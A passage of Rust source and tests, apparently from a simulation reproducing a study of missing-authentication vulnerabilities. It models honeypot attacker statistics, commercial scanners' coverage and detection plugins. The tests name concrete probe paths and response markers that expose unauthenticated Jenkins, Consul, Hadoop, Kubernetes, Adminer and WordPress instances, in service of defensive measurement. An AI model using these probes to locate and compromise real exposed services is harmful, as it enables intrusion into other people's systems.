        assert!(db.lookup(ip).is_none());
        db.insert(ip, rec);
        assert_eq!(db.lookup(ip), Some(rec));
        assert_eq!(db.len(), 1);
    }
}

#[cfg(test)]
mod attacker_mix_tests {
    use super::*;

    fn by_country() -> HashMap<&'static str, u32> {
        let mut m = HashMap::new();
        for (c, _, w) in ATTACKER_MIX {
            *m.entry(c.0).or_default() += w;
        }
        m
    }

    fn by_as() -> HashMap<&'static str, u32> {
        let mut m = HashMap::new();
        for (_, a, w) in ATTACKER_MIX {
            *m.entry(a.name).or_default() += w;
        }
        m
    }

    #[test]
    fn attacker_mix_sums_to_total_attacks() {
        assert_eq!(mix_total(ATTACKER_MIX), 2_195);
    }

    #[test]
    fn attacker_mix_reproduces_table7_countries() {
        let c = by_country();
        assert_eq!(c["Netherlands"], 496);
        assert_eq!(c["Brazil"], 398);
        assert_eq!(c["United States"], 359);
        assert_eq!(c["Russia"], 192);
        assert_eq!(c["Singapore"], 168);
        assert_eq!(c["Moldova"], 136);
        assert_eq!(c["United Kingdom"], 71);
        assert_eq!(c["Poland"], 69);
        assert_eq!(c["India"], 52);
        assert_eq!(c["Switzerland"], 51);
    }

    #[test]
    fn attacker_mix_reproduces_table8_ases() {
        let a = by_as();
        assert_eq!(a["Serverion BV"], 469);
        assert_eq!(a["Gamers Club"], 396);
        assert_eq!(a["DigitalOcean"], 351);
        assert_eq!(a["Alexhost"], 135);
        assert_eq!(a["Amazon EC2"], 78);
    }
}
