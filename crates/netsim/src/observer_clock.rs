//! Glue between the scanner's time-agnostic longevity observer and the
//! simulated transport's virtual clock.

use crate::clock::SimTime;
use crate::transport::SimTransport;

/// Build the `advance_clock` callback expected by
/// `nokeys_scanner::observer::observe`: offsets in seconds from the scan
/// start map onto the transport's virtual time.
pub fn wire_observer_clock(transport: &SimTransport) -> impl FnMut(i64) {
    let t = transport.clone();
    move |secs: i64| t.set_time(SimTime(secs))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::universe::{Universe, UniverseConfig};
    use std::sync::Arc;

    #[test]
    fn callback_moves_the_clock() {
        let t = SimTransport::new(Arc::new(Universe::generate(UniverseConfig::tiny(1))));
        let mut advance = wire_observer_clock(&t);
        advance(7200);
        assert_eq!(t.time(), SimTime(7200));
        advance(0);
        assert_eq!(t.time(), SimTime(0));
    }
}
