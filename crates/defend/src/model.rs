//! Generic commercial-scanner model.

use nokeys_apps::AppId;
use nokeys_honeypot::Fleet;
use nokeys_http::{Client, Endpoint, Scheme, Transport};
use nokeys_scanner::pattern::PreparedBody;
use nokeys_scanner::plugin::detect_mav;
use nokeys_scanner::signatures::{all_signatures, match_candidates};
use serde::Serialize;

/// Finding severity as reported by the vendor.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum Severity {
    /// Flagged as a vulnerability.
    Vulnerability,
    /// Flagged as an informational finding only ("the scanner did not
    /// raise a vulnerability for them").
    Informational,
}

/// One capability: what the product can say about one application.
#[derive(Debug, Clone, Copy)]
pub struct Capability {
    pub app: AppId,
    pub severity: Severity,
}

/// A commercial scanner: a name, a capability list and a speed model.
pub struct CommercialScanner {
    pub name: &'static str,
    pub capabilities: Vec<Capability>,
    /// Modeled wall-clock duration of a full scan in hours ("the entire
    /// scan took several hours to complete. During the time of the scan,
    /// multiple instances got compromised").
    pub scan_duration_hours: f64,
}

/// A finding produced by a vendor scan.
#[derive(Debug, Clone, Serialize)]
pub struct VendorFinding {
    pub endpoint: Endpoint,
    pub app: AppId,
    pub severity: Severity,
}

impl CommercialScanner {
    /// Applications this scanner flags as vulnerabilities.
    pub fn vulnerability_coverage(&self) -> Vec<AppId> {
        self.capabilities
            .iter()
            .filter(|c| c.severity == Severity::Vulnerability)
            .map(|c| c.app)
            .collect()
    }

    /// Scan a single endpoint suspected to run `app`.
    pub async fn scan_endpoint<T: Transport>(
        &self,
        client: &Client<T>,
        app: AppId,
        ep: Endpoint,
    ) -> Option<VendorFinding> {
        let capability = self.capabilities.iter().find(|c| c.app == app)?;
        match capability.severity {
            Severity::Vulnerability => {
                // The vendor implements an equivalent unauthenticated-
                // access check; modeled by the study's own plugin logic.
                if detect_mav(client, app, ep, Scheme::Http).await {
                    Some(VendorFinding {
                        endpoint: ep,
                        app,
                        severity: Severity::Vulnerability,
                    })
                } else {
                    None
                }
            }
            Severity::Informational => {
                // Product presence only: match identification signatures.
                let fetched = client.get_path(ep, Scheme::Http, "/").await.ok()?;
                let body = PreparedBody::new(fetched.response.body_str());
                let candidates = match_candidates(&all_signatures(), &body);
                candidates.contains(&app).then_some(VendorFinding {
                    endpoint: ep,
                    app,
                    severity: Severity::Informational,
                })
            }
        }
    }

    /// Scan the whole honeypot fleet, as the study did.
    pub async fn scan_fleet(&self, fleet: &Fleet) -> Vec<VendorFinding> {
        let client = Client::new(fleet.transport.clone());
        let mut findings = Vec::new();
        for h in &fleet.honeypots {
            if let Some(f) = self.scan_endpoint(&client, h.app, h.endpoint).await {
                findings.push(f);
            }
        }
        findings
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn empty_capability_list_finds_nothing() {
        let scanner = CommercialScanner {
            name: "null-scanner",
            capabilities: vec![],
            scan_duration_hours: 1.0,
        };
        let fleet = Fleet::deploy();
        assert!(scanner.scan_fleet(&fleet).await.is_empty());
    }

    #[tokio::test]
    async fn vulnerability_capability_confirms_only_real_mavs() {
        let scanner = CommercialScanner {
            name: "t",
            capabilities: vec![Capability {
                app: AppId::Docker,
                severity: Severity::Vulnerability,
            }],
            scan_duration_hours: 1.0,
        };
        let fleet = Fleet::deploy();
        let findings = scanner.scan_fleet(&fleet).await;
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].app, AppId::Docker);
        assert_eq!(findings[0].severity, Severity::Vulnerability);
    }

    #[tokio::test]
    async fn informational_capability_reports_presence() {
        let scanner = CommercialScanner {
            name: "t",
            capabilities: vec![Capability {
                app: AppId::Kubernetes,
                severity: Severity::Informational,
            }],
            scan_duration_hours: 1.0,
        };
        let fleet = Fleet::deploy();
        let findings = scanner.scan_fleet(&fleet).await;
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].severity, Severity::Informational);
    }
}
