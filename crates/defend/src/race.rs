//! The scan-vs-compromise race (Section 5, Scanner 2): "the entire scan
//! took several hours to complete. During the time of the scan, multiple
//! instances got compromised. Hence, a scan with this scanner would be
//! too slow to detect and remediate internet-exposed vulnerabilities."
//!
//! The model: the scanner sweeps the fleet sequentially over its modeled
//! duration; every honeypot whose first compromise lands before the
//! scanner reaches it has already lost the race.

use crate::model::CommercialScanner;
use nokeys_apps::AppId;
use nokeys_honeypot::StudyResult;
use nokeys_netsim::SimTime;
use serde::Serialize;

/// Outcome of the race for one honeypot.
#[derive(Debug, Clone, Serialize)]
pub struct RaceOutcome {
    pub app: AppId,
    /// Hours after study start when the scanner reaches this honeypot.
    pub scanner_arrives_hours: f64,
    /// Hours after study start of the first compromise, if any.
    pub first_compromise_hours: Option<f64>,
    /// Whether the attacker got there first.
    pub compromised_before_scan: bool,
}

/// Run the race for every honeypot the study deployed.
pub fn race(scanner: &CommercialScanner, study: &StudyResult) -> Vec<RaceOutcome> {
    let apps: Vec<AppId> = AppId::in_scope().collect();
    let per_target = scanner.scan_duration_hours / apps.len() as f64;
    apps.into_iter()
        .enumerate()
        .map(|(i, app)| {
            let scanner_arrives_hours = per_target * (i + 1) as f64;
            let first_compromise_hours = study
                .attacks_on(app)
                .map(|a| a.start.since(SimTime::HONEYPOT_START).as_hours_f64())
                .fold(None, |acc: Option<f64>, h| {
                    Some(acc.map_or(h, |a| a.min(h)))
                });
            RaceOutcome {
                app,
                scanner_arrives_hours,
                first_compromise_hours,
                compromised_before_scan: first_compromise_hours
                    .map(|h| h < scanner_arrives_hours)
                    .unwrap_or(false),
            }
        })
        .collect()
}

/// Honeypots compromised before the scanner reached them.
pub fn lost_races(outcomes: &[RaceOutcome]) -> usize {
    outcomes
        .iter()
        .filter(|o| o.compromised_before_scan)
        .count()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scanner2;
    use nokeys_honeypot::detect::Attack;
    use std::net::Ipv4Addr;

    fn study_with(attacks: Vec<(AppId, f64)>) -> StudyResult {
        StudyResult {
            plan: nokeys_attack::study_plan(1),
            records: Vec::new(),
            attacks: attacks
                .into_iter()
                .map(|(app, hours)| Attack {
                    app,
                    source: Ipv4Addr::new(81, 2, 0, 1),
                    start: SimTime::HONEYPOT_START
                        + nokeys_netsim::SimDuration::seconds((hours * 3600.0) as i64),
                    end: SimTime::HONEYPOT_START,
                    payloads: vec!["x".to_string()],
                })
                .collect(),
            actors: Vec::new(),
            restores: Vec::new(),
        }
    }

    #[test]
    fn fast_compromises_beat_the_slow_scanner() {
        // Hadoop compromised at 0.8h; a 6-hour scan reaches it much
        // later (position 10 of 18 → 3.3h in).
        let study = study_with(vec![(AppId::Hadoop, 0.8), (AppId::Jenkins, 172.4)]);
        let outcomes = race(&scanner2(), &study);
        let hadoop = outcomes.iter().find(|o| o.app == AppId::Hadoop).unwrap();
        assert!(hadoop.compromised_before_scan, "{hadoop:?}");
        // Jenkins's first attack came a week in: the scanner wins there.
        let jenkins = outcomes.iter().find(|o| o.app == AppId::Jenkins).unwrap();
        assert!(!jenkins.compromised_before_scan);
        assert_eq!(lost_races(&outcomes), 1);
    }

    #[test]
    fn unattacked_honeypots_never_lose() {
        let study = study_with(vec![]);
        let outcomes = race(&scanner2(), &study);
        assert_eq!(lost_races(&outcomes), 0);
        assert_eq!(outcomes.len(), 18);
    }
}
