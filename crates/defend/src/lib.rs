//! Models of the two commercial security scanners from the
//! defender-awareness study (Section 5, RQ7).
//!
//! The paper anonymizes the vendors; what matters for RQ7 is *coverage*:
//! Scanner 1 detects 5 of the 18 MAVs (Consul, Docker, Jupyter Notebook,
//! WordPress, Hadoop), Scanner 2 detects 3 (Consul, Docker, Jenkins) and
//! flags 4 more as informational (Joomla, phpMyAdmin, Kubernetes,
//! Hadoop). Both models run real HTTP checks against targets — only the
//! set of checks differs from the study's own pipeline.

pub mod model;
pub mod race;
pub mod scanner1;
pub mod scanner2;

pub use model::{CommercialScanner, Severity, VendorFinding};
pub use race::{lost_races, race, RaceOutcome};
pub use scanner1::scanner1;
pub use scanner2::scanner2;
