//! Scanner 1: "identified 5 out of 18 vulnerabilities: Consul, Docker,
//! Jupyter Notebook, WordPress, and Hadoop."

use crate::model::{Capability, CommercialScanner, Severity};
use nokeys_apps::AppId;

/// Build the Scanner 1 model.
pub fn scanner1() -> CommercialScanner {
    CommercialScanner {
        name: "Scanner 1",
        capabilities: vec![
            Capability {
                app: AppId::Consul,
                severity: Severity::Vulnerability,
            },
            Capability {
                app: AppId::Docker,
                severity: Severity::Vulnerability,
            },
            Capability {
                app: AppId::JupyterNotebook,
                severity: Severity::Vulnerability,
            },
            Capability {
                app: AppId::WordPress,
                severity: Severity::Vulnerability,
            },
            Capability {
                app: AppId::Hadoop,
                severity: Severity::Vulnerability,
            },
        ],
        scan_duration_hours: 2.0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_honeypot::Fleet;

    #[tokio::test]
    async fn detects_exactly_the_five_disclosed_apps() {
        let fleet = Fleet::deploy();
        let findings = scanner1().scan_fleet(&fleet).await;
        let mut apps: Vec<AppId> = findings.iter().map(|f| f.app).collect();
        apps.sort();
        let mut expected = vec![
            AppId::WordPress,
            AppId::Docker,
            AppId::Consul,
            AppId::Hadoop,
            AppId::JupyterNotebook,
        ];
        expected.sort();
        assert_eq!(apps, expected);
        assert!(findings
            .iter()
            .all(|f| f.severity == crate::model::Severity::Vulnerability));
    }

    #[test]
    fn misses_actively_exploited_apps() {
        // "the scanner did not identify issues in actively exploited
        // applications, such as Jenkins, GravCMS, and Jupyter Lab".
        let coverage = scanner1().vulnerability_coverage();
        for app in [AppId::Jenkins, AppId::Grav, AppId::JupyterLab] {
            assert!(!coverage.contains(&app), "{app} should be a blind spot");
        }
    }
}
