//! Scanner 2: "detected and flagged 3 out of 18 vulnerabilities: Consul,
//! Docker, and Jenkins. Additionally, the scanner flagged installations
//! of Joomla, PhpMyAdmin, Kubernetes, and Hadoop as an informational
//! finding." Its scan takes several hours — honeypots get compromised
//! while it runs.

use crate::model::{Capability, CommercialScanner, Severity};
use nokeys_apps::AppId;

/// Build the Scanner 2 model.
pub fn scanner2() -> CommercialScanner {
    CommercialScanner {
        name: "Scanner 2",
        capabilities: vec![
            Capability {
                app: AppId::Consul,
                severity: Severity::Vulnerability,
            },
            Capability {
                app: AppId::Docker,
                severity: Severity::Vulnerability,
            },
            Capability {
                app: AppId::Jenkins,
                severity: Severity::Vulnerability,
            },
            Capability {
                app: AppId::Joomla,
                severity: Severity::Informational,
            },
            Capability {
                app: AppId::PhpMyAdmin,
                severity: Severity::Informational,
            },
            Capability {
                app: AppId::Kubernetes,
                severity: Severity::Informational,
            },
            Capability {
                app: AppId::Hadoop,
                severity: Severity::Informational,
            },
        ],
        scan_duration_hours: 6.0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::Severity;
    use nokeys_honeypot::Fleet;

    #[tokio::test]
    async fn detects_three_vulnerabilities_and_four_informational() {
        let fleet = Fleet::deploy();
        let findings = scanner2().scan_fleet(&fleet).await;
        let vulns: Vec<AppId> = findings
            .iter()
            .filter(|f| f.severity == Severity::Vulnerability)
            .map(|f| f.app)
            .collect();
        let infos: Vec<AppId> = findings
            .iter()
            .filter(|f| f.severity == Severity::Informational)
            .map(|f| f.app)
            .collect();
        assert_eq!(vulns.len(), 3);
        assert!(vulns.contains(&AppId::Consul));
        assert!(vulns.contains(&AppId::Docker));
        assert!(vulns.contains(&AppId::Jenkins));
        assert_eq!(infos.len(), 4);
        assert!(
            infos.contains(&AppId::Hadoop),
            "Hadoop is informational only"
        );
    }

    #[test]
    fn overlap_with_scanner1_is_docker_and_consul_only() {
        // "only Docker and Consul detected by both" — the lack of
        // consensus on MAVs.
        let s1 = crate::scanner1().vulnerability_coverage();
        let s2 = scanner2().vulnerability_coverage();
        let mut both: Vec<AppId> = s1.iter().filter(|a| s2.contains(a)).copied().collect();
        both.sort();
        let mut expected = vec![AppId::Docker, AppId::Consul];
        expected.sort();
        assert_eq!(both, expected);
    }

    #[test]
    fn scan_is_slow_enough_to_lose_the_race() {
        // Hadoop honeypots get compromised within the hour; a six-hour
        // scan cannot beat that.
        assert!(scanner2().scan_duration_hours > 0.8);
    }
}
