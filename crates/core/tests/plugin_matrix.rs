//! The full plugin × application matrix: every detection plugin runs
//! against every application model (vulnerable and secured) and against
//! background noise. Diagonal entries on vulnerable instances must fire;
//! everything else must stay silent — the "highly unlikely that a false
//! positive occurs" claim, verified exhaustively.

use nokeys_apps::{build_instance, release_history, AppConfig, AppId};
use nokeys_http::memory::HandlerTransport;
use nokeys_http::{Client, Endpoint, Request, Response, Scheme};
use nokeys_scanner::plugin::{detect_mav, AppHandler};
use std::net::Ipv4Addr;
use std::sync::Arc;

fn vulnerable_version(app: AppId) -> nokeys_apps::Version {
    *release_history(app)
        .iter()
        .rev()
        .find(|v| AppConfig::vulnerable_for(app, v).is_vulnerable(app, v))
        .expect("vulnerable version exists")
}

fn client_for(app: AppId, vulnerable: bool) -> (Client<HandlerTransport>, Endpoint) {
    let version = if vulnerable {
        vulnerable_version(app)
    } else {
        *release_history(app).last().expect("non-empty")
    };
    let cfg = if vulnerable {
        AppConfig::vulnerable_for(app, &version)
    } else {
        AppConfig::secure_for(app, &version)
    };
    let ep = Endpoint::new(Ipv4Addr::new(10, 7, 7, 7), app.scan_ports()[0]);
    let handler = Arc::new(AppHandler::new(build_instance(app, version, cfg)));
    (Client::new(HandlerTransport::new().with(ep, handler)), ep)
}

#[tokio::test]
async fn plugins_never_fire_on_other_applications() {
    for target in AppId::in_scope() {
        let (client, ep) = client_for(target, true);
        for plugin in AppId::in_scope() {
            let detected = detect_mav(&client, plugin, ep, Scheme::Http).await;
            if plugin == target {
                assert!(detected, "{plugin} plugin missed its own vulnerable app");
            } else {
                assert!(
                    !detected,
                    "{plugin} plugin falsely fired on a vulnerable {target}"
                );
            }
        }
    }
}

#[tokio::test]
async fn plugins_never_fire_on_secured_applications() {
    for target in AppId::in_scope().filter(|a| *a != AppId::Polynote) {
        let (client, ep) = client_for(target, false);
        for plugin in AppId::in_scope() {
            assert!(
                !detect_mav(&client, plugin, ep, Scheme::Http).await,
                "{plugin} plugin fired on a secured {target}"
            );
        }
    }
}

#[tokio::test]
async fn plugins_never_fire_on_background_noise() {
    use nokeys_apps::background::BackgroundKind;
    struct Noise(BackgroundKind);
    impl nokeys_http::server::Handler for Noise {
        fn handle(&self, req: &Request, peer: Ipv4Addr) -> Response {
            self.0.handle(req, peer)
        }
    }
    for kind in BackgroundKind::ALL {
        if !kind.speaks_http() {
            continue;
        }
        let ep = Endpoint::new(Ipv4Addr::new(10, 7, 7, 8), 8080);
        let client = Client::new(HandlerTransport::new().with(ep, Arc::new(Noise(kind))));
        for plugin in AppId::in_scope() {
            assert!(
                !detect_mav(&client, plugin, ep, Scheme::Http).await,
                "{plugin} plugin fired on {kind:?}"
            );
        }
    }
}
