//! Ground-truth check for the zero-allocation hot path: a counting
//! global allocator observes the steady-state stage-II matching loop
//! and the inline header arena directly, instead of trusting the
//! `alloc.*` counters' size-class model.
//!
//! Exactly one `#[test]` lives in this binary on purpose: the harness
//! runs tests in the same process, so a sibling test's allocations
//! would race the counter and turn the zero assertion flaky.

use nokeys_scanner::signatures::all_signatures;
use nokeys_scanner::{MultiPattern, Scratch};
use std::alloc::{GlobalAlloc, Layout, System};
use std::hint::black_box;
use std::sync::atomic::{AtomicUsize, Ordering};

/// System allocator wrapper counting every allocation and reallocation
/// (frees are irrelevant: the claim is that the hot loop *acquires* no
/// heap memory).
struct CountingAlloc;

static ALLOCS: AtomicUsize = AtomicUsize::new(0);

unsafe impl GlobalAlloc for CountingAlloc {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::Relaxed);
        System.alloc(layout)
    }

    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::Relaxed);
        System.alloc_zeroed(layout)
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::Relaxed);
        System.realloc(ptr, layout, new_size)
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        System.dealloc(ptr, layout)
    }
}

#[global_allocator]
static ALLOCATOR: CountingAlloc = CountingAlloc;

fn allocations() -> usize {
    ALLOCS.load(Ordering::Relaxed)
}

#[test]
fn warmed_hot_path_performs_zero_heap_allocations() {
    // Bodies exercising every view: mixed case (lower view), whitespace
    // runs (squashed view), real signature fragments, all well under
    // the scratch reserve — the regime every sim response lives in.
    let bodies: Vec<String> = vec![
        "<html><title>Dashboard [Jenkins]</title>  body  text</html>".into(),
        format!("{} wp-content {}", "Noise ".repeat(40), "MinAPIVersion"),
        "{\"kind\": \"Status\",\n  \"apiVersion\": \"v1\"}".into(),
        "all lowercase no whitespace-variance phpmyadmin".replace(' ', "\u{a0}"),
        "UPPER   CASE\t\tBODY with k8s.io and   Apache Hadoop".into(),
    ];
    let matcher = MultiPattern::new(&all_signatures());
    let mut scratch = Scratch::new();

    // Warm-up pass: first contact with each body shape. With the
    // reserve preallocated this should itself be clean, but the claim
    // under test is the *steady state*, so it is not measured.
    for body in &bodies {
        black_box(matcher.matched_signatures_scratch(body, &mut scratch));
    }

    let before = allocations();
    for _ in 0..100 {
        for body in &bodies {
            let used = matcher.matched_signatures_scratch(body, &mut scratch);
            black_box(used);
            black_box(scratch.matched());
        }
    }
    let matcher_allocs = allocations() - before;
    assert_eq!(
        matcher_allocs, 0,
        "steady-state multipattern matching must not touch the heap"
    );

    // The inline header arena: building and probing a typical scan
    // response's header map (a handful of short fields) is heap-free
    // even without any warm-up — the storage is inline in the value.
    let before = allocations();
    for _ in 0..100 {
        let mut headers = nokeys_http::Headers::new();
        headers.append("Content-Type", "text/html; charset=utf-8");
        headers.append("Content-Length", "1024");
        headers.append("Connection", "keep-alive");
        headers.append("Server", "sim");
        black_box(headers.get("content-type"));
        black_box(headers.connection_keep_alive());
        black_box(headers.spilled());
        black_box(&headers);
    }
    let header_allocs = allocations() - before;
    assert_eq!(
        header_allocs, 0,
        "inline header maps must not touch the heap"
    );
}
