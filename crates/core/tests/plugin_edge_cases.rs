//! Edge-case tests for individual detection plugins, using scripted
//! handlers that serve precisely crafted responses — fallback paths,
//! almost-matching bodies and malformed JSON.

use nokeys_apps::AppId;
use nokeys_http::memory::HandlerTransport;
use nokeys_http::{Client, Endpoint, Request, Response, Scheme};
use nokeys_scanner::plugin::detect_mav;
use std::collections::HashMap;
use std::net::Ipv4Addr;
use std::sync::Arc;

/// Handler serving a fixed response per path; 404 otherwise.
struct Scripted(HashMap<&'static str, Response>);

impl nokeys_http::server::Handler for Scripted {
    fn handle(&self, req: &Request, _peer: Ipv4Addr) -> Response {
        self.0
            .get(req.target.as_str())
            .cloned()
            .unwrap_or_else(Response::not_found)
    }
}

fn client_with(pages: Vec<(&'static str, Response)>) -> (Client<HandlerTransport>, Endpoint) {
    let ep = Endpoint::new(Ipv4Addr::new(10, 9, 9, 9), 8080);
    let handler = Arc::new(Scripted(pages.into_iter().collect()));
    (Client::new(HandlerTransport::new().with(ep, handler)), ep)
}

#[tokio::test]
async fn grav_fallback_to_admin_page() {
    // Step 1 fails (plain front page), step 2 matches on /admin.
    let (client, ep) = client_with(vec![
        ("/", Response::html("<html><body>A Grav site</body></html>")),
        (
            "/admin",
            Response::html(
                "<html><body>No user accounts found, please <a>create one</a></body></html>",
            ),
        ),
    ]);
    assert!(detect_mav(&client, AppId::Grav, ep, Scheme::Http).await);
}

#[tokio::test]
async fn grav_requires_both_markers() {
    let (client, ep) = client_with(vec![(
        "/admin",
        Response::html("<html><body>No user accounts found.</body></html>"),
    )]);
    assert!(
        !detect_mav(&client, AppId::Grav, ep, Scheme::Http).await,
        "'create one' missing — must not fire"
    );
}

#[tokio::test]
async fn phpmyadmin_alias_path_fallback() {
    let body = "<html><body>Server connection collation \
                <a>phpMyAdmin documentation</a></body></html>";
    let (client, ep) = client_with(vec![("/phpmyadmin", Response::html(body))]);
    assert!(detect_mav(&client, AppId::PhpMyAdmin, ep, Scheme::Http).await);
}

#[tokio::test]
async fn adminer_alternate_path_fallback() {
    let body = "<html><body>MySQL through PHP extension — Logged as: root</body></html>";
    let (client, ep) = client_with(vec![(
        "/adminer/adminer.php?username=root",
        Response::html(body),
    )]);
    assert!(detect_mav(&client, AppId::Adminer, ep, Scheme::Http).await);
}

#[tokio::test]
async fn kubernetes_rejects_empty_pod_list() {
    // Markers present but `items` is empty: the paper's plugin requires a
    // non-empty array.
    let (client, ep) = client_with(vec![
        (
            "/",
            Response::json(r#"{"paths":["certificates.k8s.io","healthz/ping"]}"#),
        ),
        (
            "/api/v1/pods",
            Response::json(r#"{"kind":"PodList","items":[],"note":"\"phase\":\"Running\""}"#),
        ),
    ]);
    assert!(!detect_mav(&client, AppId::Kubernetes, ep, Scheme::Http).await);
}

#[tokio::test]
async fn kubernetes_rejects_malformed_json() {
    let (client, ep) = client_with(vec![
        (
            "/",
            Response::json(r#"{"paths":["certificates.k8s.io","healthz/ping"]}"#),
        ),
        (
            "/api/v1/pods",
            Response::json(r#"{"items":[{"phase":"Running""#),
        ),
    ]);
    assert!(!detect_mav(&client, AppId::Kubernetes, ep, Scheme::Http).await);
}

#[tokio::test]
async fn consul_requires_the_debug_config_property() {
    // Valid JSON, script checks "enabled", but no DebugConfig object.
    let (client, ep) = client_with(vec![(
        "/v1/agent/self",
        Response::json(r#"{"Config":{"EnableScriptChecks":true}}"#),
    )]);
    assert!(!detect_mav(&client, AppId::Consul, ep, Scheme::Http).await);
}

#[tokio::test]
async fn consul_accepts_either_script_flag() {
    for flag in ["EnableScriptChecks", "EnableRemoteScriptChecks"] {
        let body = format!(r#"{{"DebugConfig":{{"{flag}":true}}}}"#);
        let (client, ep) = client_with(vec![("/v1/agent/self", Response::json(body))]);
        assert!(
            detect_mav(&client, AppId::Consul, ep, Scheme::Http).await,
            "{flag} alone should suffice"
        );
    }
}

#[tokio::test]
async fn hadoop_requires_application_id_json() {
    let cluster = Response::html(
        "<html><body>Apache Hadoop ResourceManager — logged in as: dr.who</body></html>",
    );
    // new-application answers, but without the application-id object.
    let (client, ep) = client_with(vec![
        ("/cluster/cluster", cluster.clone()),
        (
            "/ws/v1/cluster/apps/new-application",
            Response::json(r#"{"maximum-resource-capability":{}}"#),
        ),
    ]);
    assert!(!detect_mav(&client, AppId::Hadoop, ep, Scheme::Http).await);
}

#[tokio::test]
async fn drupal_matches_across_whitespace_styles() {
    for body in [
        "<html><li class=\"is-active\">Set up database</li></html>",
        "<html><li \n class=\"is-active\"\n>\n  Set up database\n</li></html>",
        "<html><li class=\"is-active\">Set\tup\tdatabase</li></html>",
    ] {
        let (client, ep) = client_with(vec![(
            "/core/install.php?langcode=en&profile=standard&continue=1",
            Response::html(body),
        )]);
        assert!(
            detect_mav(&client, AppId::Drupal, ep, Scheme::Http).await,
            "whitespace variant should match: {body}"
        );
    }
}

#[tokio::test]
async fn jenkins_requires_the_form_not_just_branding() {
    // 'Jenkins' + valid HTML but no createItem form (login wall).
    let (client, ep) = client_with(vec![(
        "/view/all/newJob",
        Response::html("<html><body>Jenkins login required</body></html>"),
    )]);
    assert!(!detect_mav(&client, AppId::Jenkins, ep, Scheme::Http).await);
}

#[tokio::test]
async fn jenkins_requires_valid_html() {
    // The form marker inside a non-HTML body must not fire.
    let (client, ep) = client_with(vec![(
        "/view/all/newJob",
        Response::text("Jenkins <form id=\"createItem\">"),
    )]);
    assert!(!detect_mav(&client, AppId::Jenkins, ep, Scheme::Http).await);
}

#[tokio::test]
async fn gocd_matches_every_documented_marker_pair() {
    let variants = [
        "<html>Create a pipeline - Go <div class=\"pipelines-page\"></div></html>",
        "<html>Add Pipeline <div id=\"admin_pipelines\"></div></html>",
        "<html>Dashboard - Go <a href=\"/go/admin/pipelines/\">x</a></html>",
        "<html>Pipelines - Go <a href=\"/go/admin/pipelines\">x</a></html>",
    ];
    for body in variants {
        let (client, ep) = client_with(vec![("/go/home", Response::html(body))]);
        assert!(
            detect_mav(&client, AppId::Gocd, ep, Scheme::Http).await,
            "variant should match: {body}"
        );
    }
    // Title without the admin link must not fire.
    let (client, ep) = client_with(vec![(
        "/go/home",
        Response::html("<html>Pipelines - Go</html>"),
    )]);
    assert!(!detect_mav(&client, AppId::Gocd, ep, Scheme::Http).await);
}

#[tokio::test]
async fn zeppelin_requires_the_exact_status_prefix() {
    let (client, ep) = client_with(vec![(
        "/api/notebook",
        Response::json(r#"{"status": "OK", "body": []}"#),
    )]);
    // Note the space after the colon: the paper's marker has none.
    assert!(!detect_mav(&client, AppId::Zeppelin, ep, Scheme::Http).await);
    let (client, ep) = client_with(vec![(
        "/api/notebook",
        Response::json(r#"{"status":"OK","body":[]}"#),
    )]);
    assert!(detect_mav(&client, AppId::Zeppelin, ep, Scheme::Http).await);
}

#[tokio::test]
async fn wordpress_install_form_needs_password_field() {
    // form#setup without the pass1 input (e.g. a language-selection step)
    // must not fire.
    let (client, ep) = client_with(vec![(
        "/wp-admin/install.php?step=1",
        Response::html(
            "<html><body>WordPress<form id=\"setup\"><select name=\"lang\"></select></form></body></html>",
        ),
    )]);
    assert!(!detect_mav(&client, AppId::WordPress, ep, Scheme::Http).await);
}

#[tokio::test]
async fn error_statuses_do_not_satisfy_marker_checks() {
    // A 500 page echoing markers must not fire for plugins that require
    // 2xx responses.
    let mut resp = Response::json(r#"{"status":"OK","body":[]}"#);
    resp.status = nokeys_http::StatusCode::INTERNAL_SERVER_ERROR;
    let (client, ep) = client_with(vec![("/api/notebook", resp)]);
    assert!(!detect_mav(&client, AppId::Zeppelin, ep, Scheme::Http).await);
}
