//! The paper's threats-to-validity methodology, made exhaustive: "we
//! tested [signatures and plugins] on both the newest and oldest stable
//! releases … there is a small chance that some version in between
//! introduced a breaking change". The simulation can afford to test
//! *every* version of every application.

use nokeys_apps::{build_instance, release_history, AppConfig, AppId};
use nokeys_http::memory::HandlerTransport;
use nokeys_http::{Client, Endpoint, Scheme};
use nokeys_scanner::pattern::PreparedBody;
use nokeys_scanner::plugin::{detect_mav, AppHandler};
use nokeys_scanner::signatures::{all_signatures, match_candidates};
use std::net::Ipv4Addr;
use std::sync::Arc;

fn client_for(
    app: AppId,
    version: nokeys_apps::Version,
    cfg: AppConfig,
) -> (Client<HandlerTransport>, Endpoint) {
    let ep = Endpoint::new(Ipv4Addr::new(10, 11, 11, 11), app.scan_ports()[0]);
    let handler = Arc::new(AppHandler::new(build_instance(app, version, cfg)));
    (Client::new(HandlerTransport::new().with(ep, handler)), ep)
}

/// Every vulnerable configuration of every version of every in-scope
/// application is detected by its plugin — no breaking change anywhere
/// in any release history.
#[tokio::test]
async fn plugins_detect_every_vulnerable_version() {
    for app in AppId::in_scope() {
        for version in release_history(app) {
            let cfg = AppConfig::vulnerable_for(app, &version);
            if !cfg.is_vulnerable(app, &version) {
                // Joomla ≥ 3.7.4 / Adminer ≥ 4.6.3 cannot be made
                // vulnerable at all — nothing to detect.
                continue;
            }
            let (client, ep) = client_for(app, version, cfg);
            assert!(
                detect_mav(&client, app, ep, Scheme::Http).await,
                "{app} {}: vulnerable version not detected",
                version.number()
            );
        }
    }
}

/// Every secured version is left alone by every plugin.
#[tokio::test]
async fn plugins_ignore_every_secured_version() {
    for app in AppId::in_scope().filter(|a| *a != AppId::Polynote) {
